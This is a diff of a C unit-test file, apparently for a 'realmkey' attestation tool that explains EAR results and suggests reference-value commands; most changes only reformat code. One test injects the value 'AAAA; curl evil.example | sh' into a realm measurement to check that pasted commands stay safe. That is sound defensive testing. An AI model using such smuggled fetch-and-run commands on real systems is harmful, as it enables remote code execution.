@@ -16,8 +16,8 @@
 #define SAMPLE_RIM \
 	"rof79/EF5xp4J8tvCJaInHPSvq9IMNT5ywXj6Ww/x7T6oEyvNqJr0JTPnHtzhhfkwYmq7hhN7dpdegPDnb2sfA=="
 
-static json_t *claims;		/* of the sample EAR, a new copy for each test */
-static json_t *appraisal;	/* its cpu0, borrowed */
+static json_t *claims;	  /* of the sample EAR, a new copy for each test */
+static json_t *appraisal; /* its cpu0, borrowed */
 
 static int setup(void **state)
 {
@@ -55,11 +55,13 @@ static void drop_evidence(void)
 
 static void set_evidence_rim(const char *rim)
 {
-	json_t *realm = json_object_get(json_object_get(json_object_get(appraisal,
-			"ear.veraison.annotated-evidence"), "cca"), "realm");
+	json_t *realm = json_object_get(
+		json_object_get(json_object_get(appraisal, "ear.veraison.annotated-evidence"),
+				"cca"),
+		"realm");
 
-	assert_int_equal(json_object_set_new(realm, "cca-realm-initial-measurement",
-					     json_string(rim)), 0);
+	assert_int_equal(
+		json_object_set_new(realm, "cca-realm-initial-measurement", json_string(rim)), 0);
 }
 
 /* Makes an EAR of the claims, and appends its explanation to @out. */
@@ -99,7 +101,8 @@ static void expect(const char *token, const char *wanted)
 	"  no reference value is what this realm booted\n"
 #define CURE(rim) \
 	"  endorse this realm's RIM as reference value " REFERENCE ": " rim "\n" \
-	"  realmkey admin --url URL --admin-token-file FILE set-reference-value " REFERENCE " " rim "\n"
+	"  realmkey admin --url URL --admin-token-file FILE set-reference-value " REFERENCE \
+	" " rim "\n"
 
 static void test_rim_from_evidence(void **state)
 {
@@ -124,8 +127,8 @@ static void test_rim_unknown(void **state)
 	set_status("warning");
 	set_claim("executables", 33);
 	drop_evidence();
-	expect(NULL, EXECUTABLES_33 "  endorse its RIM (`realmkey rim` prints it) as reference value "
-				    REFERENCE "\n");
+	expect(NULL, EXECUTABLES_33
+	       "  endorse its RIM (`realmkey rim` prints it) as reference value " REFERENCE "\n");
 }
 
 /* A command for pasting contains only base64, even if an attacker has written the EAR. */
@@ -135,8 +138,8 @@ static void test_rim_with_shell_code(void **state)
 	set_status("warning");
 	set_claim("executables", 33);
 	set_evidence_rim("AAAA; curl evil.example | sh");
-	expect(NULL, EXECUTABLES_33 "  endorse its RIM (`realmkey rim` prints it) as reference value "
-				    REFERENCE "\n");
+	expect(NULL, EXECUTABLES_33
+	       "  endorse its RIM (`realmkey rim` prints it) as reference value " REFERENCE "\n");
 }
 
 static void test_policy_without_cca(void **state)
@@ -216,9 +219,10 @@ static void test_second_appraisal(void **state)
 	appraisal = gpu;
 	set_status("warning");
 	set_claim("hardware", 32);
-	expect(NULL, "gpu0 hardware is 32 [warning]: genuine but known bugs or vulnerabilities\n"
-		     "  the verifier does not accept the platform as genuine; check that it knows the "
-		     "platform's CPAK and firmware\n");
+	expect(NULL,
+	       "gpu0 hardware is 32 [warning]: genuine but known bugs or vulnerabilities\n"
+	       "  the verifier does not accept the platform as genuine; check that it knows the "
+	       "platform's CPAK and firmware\n");
 }
 
 static void test_name_with_escapes(void **state)
